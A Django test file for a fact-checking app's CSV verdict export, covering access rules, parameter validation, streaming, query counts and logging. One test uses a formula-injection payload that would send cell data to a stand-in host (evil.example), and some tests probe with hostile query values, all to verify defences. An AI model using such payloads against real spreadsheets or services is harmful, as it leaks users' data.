"""Taking verdicts along: what each person gets, and in what shape."""

import logging
import re
from datetime import date

import pytest
from django.db import connection
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from claims.models import Claim, Cluster, Decision, Event, Reviewer, Verdict
from claims.readers.verdict_csv import read_verdict_csv
from claims.records import EvidenceInput
from claims.text.normal import fold
from claims.views.export import download_verdicts
from tests.factories import decide, make_claim, make_cluster, make_source

pytestmark = pytest.mark.django_db
ADDRESS = "/export/verdicts.csv"


def download(client: Client, query: str = "") -> list[dict[str, str]]:
    response = client.get(ADDRESS + query)
    assert response.status_code == 200
    return read_verdict_csv(response.getvalue())


def test_a_lead_gets_the_outcome_of_every_claim_decided(as_lea: Client, ada: Reviewer, ben: Reviewer) -> None:
    decide(make_cluster("The dam broke."), ada, "unverified")
    decide(make_cluster("The dam held."), ben, "consistent")
    make_cluster("Nobody looked at this.")
    rows = download(as_lea)
    assert [(row["claim"], row["label"], row["reviewer"]) for row in rows] == [
        ("The dam broke.", "unverified", "ada"),
        ("The dam held.", "consistent", "ben"),
    ]


def test_a_lead_may_ask_for_every_claim_and_for_every_reviewer(as_lea: Client, ada: Reviewer) -> None:
    decide(make_cluster("The dam broke."), ada)
    make_cluster("Nobody looked at this.")
    assert [row["status"] for row in download(as_lea, "?all=1")] == ["decided", "pending"]
    (row,) = download(as_lea, "?per_reviewer=1")
    assert (row["reviewer"], row["label"], row["final_label"]) == ("ada", "consistent", "consistent")
    assert len(download(as_lea, "?all=1&per_reviewer=1")) == 2


def test_a_reviewer_gets_only_what_they_decided_themselves(
    as_ada: Client, ada: Reviewer, ben: Reviewer
) -> None:
    decide(make_cluster("The dam broke."), ada, note="mine")
    decide(make_cluster("The dam held."), ben, note="not hers")
    for query in ("", "?per_reviewer=1", "?reviewer=ben"):
        rows = download(as_ada, query)
        assert [(row["claim"], row["note"]) for row in rows] == [("The dam broke.", "mine")]
    assert as_ada.get(ADDRESS, {"all": "1"}).status_code == 403


def test_strangers_are_sent_to_sign_in(anonymous: Client) -> None:
    for address in (ADDRESS, "/export/"):
        response = anonymous.get(address)
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/sign-in/")


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("?all=2", 400),
        ("?all=true", 400),
        ("?per_reviewer=%00", 400),
        ("?all=1&all=x", 400),
        ("?all=" + "9" * 10_000, 400),
        ("?order_by=reviewer__password&x=1", 200),
        ("?all=&", 400),
        ("?all=0&per_reviewer=0", 200),
    ],
)
def test_odd_choices_are_refused(as_lea: Client, query: str, status: int) -> None:
    assert as_lea.get(ADDRESS + query).status_code == status


def test_the_file_is_streamed_under_a_safe_name_with_the_date(as_lea: Client, as_ada: Client) -> None:
    response = as_lea.get(ADDRESS)
    assert response.streaming
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["Cache-Control"] == "no-store"
    name = re.fullmatch(r'attachment; filename="verdicts-(.+)\.csv"', response.headers["Content-Disposition"])
    assert name
    assert date.fromisoformat(name[1]) == timezone.localdate()
    assert 'filename="my-verdicts-' in as_ada.get(ADDRESS).headers["Content-Disposition"]


def test_formulas_are_guarded_in_the_file_and_come_back_as_typed(as_lea: Client, ada: Reviewer) -> None:
    formula = '=HYPERLINK("http://evil.example?x="&A1,"click")'
    source = make_source("-5 degrees were measured.", title=formula, publisher="@home")
    claim = make_claim(source=source)
    evidence = EvidenceInput(stance="supports", url="https://a.example", title=formula, passage="fine\n+1")
    decide(claim.cluster, ada, note=f"seen\n{formula}", evidence=[evidence])
    response = as_lea.get(ADDRESS)
    content = response.getvalue()
    plain = content.decode().replace('""', '"')
    assert f"'{formula}" in plain
    assert f"seen\n'{formula}" in plain
    assert not re.search(r'(^|,|\n|")[=+@-]', plain.replace('x="&', ""))
    (row,) = read_verdict_csv(content)
    assert (row["source_title"], row["publisher"], row["claim"]) == (formula, "@home", source.text)
    assert row["note"] == f"seen\n{formula}"
    assert row["evidence"] == f"supports https://a.example | {formula} |  | fine +1"


def many_decided(count: int, reviewer: Reviewer) -> None:
    text = "\n".join(f"Gauge number {number} rose." for number in range(count))
    source, cluster = make_source(text), Cluster.objects.create()
    start = 0
    claims = []
    for line in text.split("\n"):
        claims.append(
            Claim(
                source=source,
                text=line,
                start=start,
                end=start + len(line),
                folded=fold(line),
                check_worthiness=0.5,
                cluster=cluster,
            )
        )
        start += len(line) + 1
    Claim.objects.bulk_create(claims)
    decide(cluster, reviewer)


def test_two_thousand_rows_come_whole_with_four_queries_for_each_five_hundred(
    as_lea: Client, ada: Reviewer
) -> None:
    many_decided(2_000, ada)
    with CaptureQueriesContext(connection) as queries:
        response = as_lea.get(ADDRESS)
        rows = read_verdict_csv(response.getvalue())
    assert len(rows) == 2_000
    assert [int(row["claim_id"]) for row in rows] == sorted(int(row["claim_id"]) for row in rows)
    # session, person; four chunks of claims, verdicts, evidence, against; a last look for claims
    assert len(queries) == 2 + 4 * 4 + 1


def test_a_client_that_stops_reading_holds_nothing_of_the_database(
    committed_db: object, lea: Reviewer, ada: Reviewer
) -> None:
    decide(make_cluster("The dam broke."), ada)
    request = RequestFactory().get(ADDRESS)
    request.user = lea
    response = download_verdicts(request)  # type: ignore[arg-type]
    assert not connection.in_atomic_block
    decide(make_cluster("Written while the file is unread."), ada)
    file = response.file_to_stream
    assert file is not None
    assert not file.closed
    response.close()
    assert file.closed


def test_downloading_writes_nothing_but_a_line_in_the_log(
    as_lea: Client, lea: Reviewer, ada: Reviewer, caplog: pytest.LogCaptureFixture
) -> None:
    decide(make_cluster("The dam broke."), ada)
    rows = Event.objects.count(), Decision.objects.count(), Verdict.objects.count()
    with caplog.at_level(logging.INFO, "claims.audit"):
        download(as_lea, "?all=1")
    assert (Event.objects.count(), Decision.objects.count(), Verdict.objects.count()) == rows
    assert caplog.messages == [f"export by={lea.pk} all=1 per_reviewer=0"]


def test_only_reading_is_allowed(as_lea: Client) -> None:
    assert as_lea.post(ADDRESS).status_code == 405
    assert as_lea.post("/export/").status_code == 405


def test_the_page_offers_a_lead_every_choice(as_lea: Client, ada: Reviewer) -> None:
    decide(make_cluster("The dam broke."), ada)
    page = as_lea.get("/export/").content.decode()
    for address in (ADDRESS, f"{ADDRESS}?all=1", f"{ADDRESS}?per_reviewer=1"):
        assert f'href="{address}"' in page
    assert "<code>check_worthiness</code>" in page


def test_the_page_offers_a_reviewer_their_own_verdicts_once_there_are_some(
    as_ada: Client, ada: Reviewer
) -> None:
    cluster = make_cluster("The dam broke.")
    page = as_ada.get("/export/").content.decode()
    assert "You have not decided on any claim yet." in page
    decide(cluster, ada)
    page = as_ada.get("/export/").content.decode()
    assert "My verdicts" in page
    assert "?all=1" not in page


def test_the_page_of_an_empty_desk_says_what_to_do(as_lea: Client) -> None:
    assert "There are no claims yet." in as_lea.get("/export/").content.decode()


def test_the_page_takes_five_queries(as_lea: Client) -> None:
    with CaptureQueriesContext(connection) as queries:
        assert as_lea.get("/export/").status_code == 200
    assert len(queries) == 5  # session, person, claims, claims decided, claims decided by oneself
